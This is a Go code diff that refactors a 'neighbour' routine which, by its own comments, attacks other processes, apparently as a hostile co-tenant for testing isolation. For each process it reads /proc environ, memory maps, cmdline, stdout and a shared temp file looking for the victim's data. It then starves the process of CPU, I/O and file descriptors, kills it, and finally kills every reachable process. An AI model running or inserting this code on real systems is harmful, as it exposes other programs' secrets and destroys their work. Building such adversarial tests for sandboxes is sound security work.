@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"errors"
 	"fmt"
 	"net"
 	"os"
@@ -91,10 +92,6 @@ func (n neighbour) connections() {
 }
 
 func (n neighbour) processes() {
-	var one unix.CPUSet
-	one.Set(0)
-	few := unix.Rlimit{Cur: 8, Max: 8}
-	parameter := new([64]byte)
 	pids := map[int]bool{os.Getppid(): true}
 	for _, name := range names("/proc") {
 		if pid, err := strconv.Atoi(name); err == nil {
@@ -104,23 +101,40 @@ func (n neighbour) processes() {
 	for pid := range 320 {
 		pids[pid] = true
 	}
+	delete(pids, os.Getpid())
+	delete(pids, 1)
 	for pid := range pids {
-		if _, err := os.Stat(fmt.Sprintf("/proc/self/task/%d", pid)); pid < 2 || err == nil {
-			continue // number 1, or a thread of this process
-		}
-		for _, name := range []string{"environ", "maps", "cmdline", "root/tmp/" + sharedName + "-0.json", "fd/1", "mountinfo"} {
-			n.look(fmt.Sprintf("/proc/%d/%s", pid, name))
-		}
-		other := uintptr(pid)
-		_ = unix.Setpriority(unix.PRIO_PROCESS, pid, 19)
-		_ = unix.Setpriority(unix.PRIO_PGRP, pid, 19)
-		_ = unix.SchedSetaffinity(pid, &one)
-		_ = unix.Prlimit(pid, unix.RLIMIT_NOFILE, &few, nil)
-		_ = call(unix.SYS_IOPRIO_SET, 1, other, 3<<13)
-		_ = call(unix.SYS_SCHED_SETSCHEDULER, other, 5, uintptr(unsafe.Pointer(parameter))) //nolint:gosec // it takes a pointer
-		_ = syscall.Kill(pid, syscall.SIGKILL)
+		n.process(pid)
 	}
 	_ = syscall.Kill(-1, syscall.SIGKILL)
+}
+
+// process attacks a process. All that takes the number of a process takes that of a thread for
+// it, too, and the runtime may start a thread at any time: a pidfd is of processes alone.
+func (n neighbour) process(pid int) {
+	handle, err := unix.PidfdOpen(pid, 0)
+	if err != nil {
+		if !errors.Is(err, unix.ESRCH) && !errors.Is(err, unix.EINVAL) && !errors.Is(err, unix.ENOENT) {
+			must(err)
+		}
+		return
+	}
+	defer func() { _ = unix.Close(handle) }()
+	var one unix.CPUSet
+	one.Set(0)
+	few := unix.Rlimit{Cur: 8, Max: 8}
+	parameter := new([64]byte)
+	for _, name := range []string{"environ", "maps", "cmdline", "root/tmp/" + sharedName + "-0.json", "fd/1", "mountinfo"} {
+		n.look(fmt.Sprintf("/proc/%d/%s", pid, name))
+	}
+	other := uintptr(pid)
+	_ = unix.Setpriority(unix.PRIO_PROCESS, pid, 19)
+	_ = unix.Setpriority(unix.PRIO_PGRP, pid, 19)
+	_ = unix.SchedSetaffinity(pid, &one)
+	_ = unix.Prlimit(pid, unix.RLIMIT_NOFILE, &few, nil)
+	_ = call(unix.SYS_IOPRIO_SET, 1, other, 3<<13)
+	_ = call(unix.SYS_SCHED_SETSCHEDULER, other, 5, uintptr(unsafe.Pointer(parameter))) //nolint:gosec // it takes a pointer
+	_ = unix.PidfdSendSignal(handle, syscall.SIGKILL, nil, 0)
 }
 
 // look searches a file for words of the victim, and locks it.
